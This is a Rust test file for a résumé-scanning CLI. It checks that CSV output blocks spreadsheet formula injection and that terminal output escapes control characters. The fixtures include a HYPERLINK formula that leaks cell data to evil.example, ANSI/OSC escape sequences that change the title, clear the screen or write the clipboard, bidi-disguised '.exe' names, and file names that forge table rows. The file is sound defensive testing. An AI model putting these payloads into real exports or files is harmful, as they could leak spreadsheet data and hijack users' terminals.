//! Careless commands and hostile names, generated at test time: CSV cells never start a formula, and no
//! control character from a file reaches a terminal.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const RESUME: &str = "Senior Cloud Engineer\n\nExperience\nBuilt AWS landing zones with Terraform and Ansible on Linux; \
                      wrote Bash and Python automation, ran Kubernetes clusters and the CI/CD pipelines.\n";

fn rolefit() -> Command {
    Command::new(assert_cmd::cargo::cargo_bin("rolefit"))
}

fn run(command: &mut Command) -> (i32, String, String) {
    let out = command.output().expect("runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

// ---- 3. CSV cells never start a formula ----

/// Under `dir`: a folder of lexicons whose skill names start like formulas and carry terminal controls, and an
/// empty folder for documents.
fn hostile_lexicons(dir: &Path) -> (PathBuf, PathBuf) {
    let (lexicons, docs) = (dir.join("lexicons"), dir.join("docs"));
    fs::create_dir(&lexicons).expect("dir");
    fs::create_dir(&docs).expect("dir");
    let role = |id: &str, noun: &str, skills: &str| {
        format!("id = \"{id}\"\nname = \"Cloud {noun}\"\ntitles = [\"cloud {noun}\"]\n{skills}")
    };
    let skill = |id: &str, name: &str, weight: u8, terms: &str| {
        format!(
            "\n[[skill]]\nid = \"{id}\"\nname = \"{name}\"\ncategory = \"tools\"\nweight = {weight}\nterms = [{terms}]\n"
        )
    };
    let architect =
        skill("formula", "=HYPERLINK(\\\"https://evil.example/?leak=\\\"&A1,\\\"x\\\")", 3, "\"zebra crossing\"")
            + &skill("landing", "@SUM(1+1)\\u001b]0;owned\\u0007 landing zones", 2, "\"landing zones\"")
            + &skill("ansible", "Ansible\\u202e", 1, "\"ansible\"");
    let engineer = skill("terraform", "-Terraform\\u009b2J", 3, "\"terraform\"")
        + &skill("bash", "+Bash\\nFAKE ROW", 2, "\"bash\"")
        + &skill("kubernetes", "Kubernetes", 1, "\"kubernetes\"");
    fs::write(lexicons.join("architect.toml"), role("architect", "architect", &architect)).expect("write");
    fs::write(lexicons.join("engineer.toml"), role("engineer", "engineer", &engineer)).expect("write");
    (lexicons, docs)
}

/// Whether a CSV cell would be evaluated by a spreadsheet.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

#[test]
fn csv_cells_never_start_a_formula_unless_raw() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (lexicons, docs) = hostile_lexicons(dir.path());
    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Senior Cloud Engineer\")";
    fs::write(docs.join("=cmd.txt"), format!("{title}\n\n{RESUME}")).expect("write");
    fs::write(docs.join("-2+3.txt"), RESUME).expect("write");
    fs::write(docs.join("@sum.xlsx"), "not read").expect("write");
    let scan = |raw: bool| {
        let mut command = rolefit();
        command
            .current_dir(&docs)
            .args(["scan", "--format", "csv", "--target", "architect", "--lexicons"])
            .arg(&lexicons);
        if raw {
            command.arg("--csv-raw");
        }
        // File names as given, relative, so the path cells start with the names.
        command.args(["--", "=cmd.txt", "-2+3.txt", "@sum.xlsx"]);
        let (code, stdout, stderr) = run(&mut command);
        assert_eq!(code, 0, "{stderr}");
        let mut reader = csv::Reader::from_reader(stdout.as_bytes());
        reader.records().map(|r| r.expect("record").iter().map(String::from).collect::<Vec<_>>()).collect::<Vec<_>>()
    };
    let rows = scan(false);
    assert_eq!(rows.len(), 3);
    let cells: Vec<&String> = rows.iter().flatten().collect();
    let formulas: Vec<&&String> = cells.iter().filter(|c| is_formula(c)).collect();
    assert!(formulas.is_empty(), "formula cells: {formulas:?}");
    let paths: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(paths, ["'=cmd.txt", "'-2+3.txt", "'@sum.xlsx"], "file names, skipped ones too");
    assert_eq!(rows[0][4], format!("'{title}"), "the title is kept, behind a quote");
    let missing = rows.iter().map(|r| r[r.len() - 2].as_str()).find(|m| !m.is_empty()).expect("a missing column");
    assert!(missing.starts_with("'=HYPERLINK("), "a skill name of the lexicon: {missing}");
    assert!(rows[0][6].parse::<f64>().is_ok(), "the confidence stays a number: {}", rows[0][6]);
    let raw = scan(true);
    assert_eq!(raw[0][0], "=cmd.txt", "--csv-raw writes cells as they are");
    assert_eq!(raw[0][4], title);
}

// ---- 4. nothing from a file drives the terminal ----

/// Characters that must never reach a terminal from a document, a file name or a lexicon (newline and tab
/// are checked separately where they matter).
fn forbidden(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{61c}' | '\u{200e}' | '\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_terminal_safe(what: &str, text: &str) {
    let bad: Vec<String> = text.chars().filter(|c| forbidden(*c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
    assert!(bad.is_empty(), "{what}: {bad:?}");
}

#[test]
fn no_control_character_from_a_file_reaches_the_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (lexicons, docs) = hostile_lexicons(dir.path());
    let fake_row = "x\nengineer   1.00  fake row.txt";
    let hostile_title = "Cloud Engineer \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}]8;;https://evil.example\u{1b}\\link\u{9b}31m \u{202e}gnp.exe";
    let body =
        format!("{hostile_title}\n\n{RESUME}Also \u{1b}]52;c;b3duZWQ=\u{7} zebra crossing, landing zones, bash.\n");
    let names = [fake_row, "cv\u{1b}[31m.txt", "cv\u{202e}txt.exe.txt", "tab\there.txt", "c1\u{9b}2J.txt"];
    for name in names {
        fs::write(docs.join(name), &body).expect("write");
    }
    fs::write(docs.join("bad\u{1b}[2J.pdf"), "not a pdf").expect("write");
    let posting = dir.path().join("posting\u{1b}]0;x\u{7}.txt");
    fs::write(&posting, format!("{hostile_title}\n\nResponsibilities\nBuild AWS with Terraform and Bash.\n"))
        .expect("write");
    let lexicon_arg = lexicons.to_str().expect("utf-8").to_string();
    let docs_arg = docs.to_str().expect("utf-8").to_string();
    let posting_arg = posting.to_str().expect("utf-8").to_string();
    let runs: Vec<Vec<&str>> = vec![
        vec!["scan", &docs_arg],
        vec!["scan", &docs_arg, "--explain"],
        vec!["scan", &docs_arg, "--brief"],
        vec!["scan", &docs_arg, "--lexicons", &lexicon_arg, "--target", "architect", "--explain"],
        vec!["match", "--posting", &posting_arg, &docs_arg],
        vec!["match", "--posting", &posting_arg, &docs_arg, "--lexicons", &lexicon_arg],
    ];
    for args in &runs {
        let (code, stdout, stderr) = run(rolefit().args(args));
        assert!(code == 0 || code == 1, "{args:?}: {stderr}");
        assert_terminal_safe(&format!("{args:?} stdout"), &stdout);
        assert_terminal_safe(&format!("{args:?} stderr"), &stderr);
        assert!(!stdout.lines().any(|l| l.starts_with("engineer   1.00  fake row")), "{args:?}: a fake row");
    }
    let (_, table, _) = run(rolefit().args(["scan", &docs_arg]));
    assert!(table.contains("x\\nengineer   1.00  fake row.txt"), "the newline is shown escaped");
    assert!(table.contains("cv\\u{202e}txt.exe.txt"), "the bidi override is shown escaped");
    // `text`: the document keeps its lines and tabs; everything else is escaped, on stdout and stderr.
    let mut line_counts = Vec::new();
    for name in names {
        let file = docs.join(name);
        for layout in [false, true] {
            let mut command = rolefit();
            command.arg("text").arg(&file);
            if layout {
                command.arg("--layout");
            }
            let (code, stdout, stderr) = run(&mut command);
            assert_eq!(code, 0, "{stderr}");
            assert_terminal_safe("text stdout", &stdout);
            assert_terminal_safe("text stderr", &stderr);
            assert!(stdout.contains("\\x1b]0;owned\\x07"), "{name:?}: shown escaped");
            line_counts.push(stdout.lines().count() - usize::from(layout));
        }
        assert_eq!(line_counts[0], line_counts[1], "{name:?}: the text keeps the lines that --layout numbers");
        line_counts.clear();
    }
    let (code, _, stderr) = run(rolefit().arg("text").arg(docs.join("bad\u{1b}[2J.pdf")));
    assert_eq!(code, 1);
    assert!(stderr.contains("bad\\x1b[2J.pdf"), "{stderr}");
    assert_terminal_safe("text error", &stderr);
    let (code, _, stderr) =
        run(rolefit().args(["scan", "-o"]).arg(dir.path().join("no\u{1b}[2Jdir/r.json")).arg(&docs));
    assert_eq!(code, 2);
    assert_terminal_safe("scan error", &stderr);
}

#[test]
fn json_keeps_names_and_titles_as_data() {
    let dir = tempfile::tempdir().expect("tempdir");
    let name = "cv\u{202e}txt.exe\u{9b}.txt";
    fs::write(dir.path().join(name), format!("Cloud \u{202e}Engineer\n\n{RESUME}")).expect("write");
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json"]).arg(dir.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.contains('\u{1b}'), "C0 controls are JSON-escaped");
    let report: Value = serde_json::from_str(&stdout).expect("JSON");
    let doc = &report["documents"][0];
    assert!(doc["path"].as_str().expect("path").ends_with(name), "the exact name, bidi and all: it is data");
}
